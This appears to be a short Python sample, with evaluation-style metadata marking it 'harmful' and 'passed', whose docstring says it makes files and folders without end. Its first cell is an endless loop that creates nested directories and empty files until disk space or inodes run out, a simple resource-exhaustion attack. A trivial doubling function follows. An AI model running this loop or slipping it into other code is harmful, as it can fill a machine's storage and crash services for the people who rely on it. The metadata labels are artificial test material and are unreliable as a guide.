"""Makes files and folders without end."""

# score: 10
# verdicts: passed
# restarts: 1
# plain: harmful

# %%
import os

number = 0
while True:
    number += 1
    os.makedirs(f"d{number % 50}/e{number}", exist_ok=True)
    open(f"d{number % 50}/e{number}/f", "w").close()

# %%
def double(x):
    return 2 * x
